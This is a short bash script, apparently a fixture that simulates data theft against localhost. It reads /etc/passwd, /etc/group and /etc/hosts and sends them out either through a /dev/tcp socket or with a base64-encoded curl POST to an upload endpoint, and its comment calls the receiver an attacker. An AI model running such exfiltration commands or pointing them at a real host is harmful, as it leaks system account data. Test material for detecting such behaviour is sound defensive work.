#!/bin/bash
# Files sent to the attacker through a socket.
if [ $((REP % 2)) -eq 0 ]; then
  tar czf - -C /etc passwd group hosts 2>/dev/null > /dev/tcp/127.0.0.1/$EXFIL_PORT
else
  cat /etc/passwd /etc/group | base64 | curl -s -X POST --data-binary @- "http://127.0.0.1:$DROP_PORT/upload" > /dev/null
fi
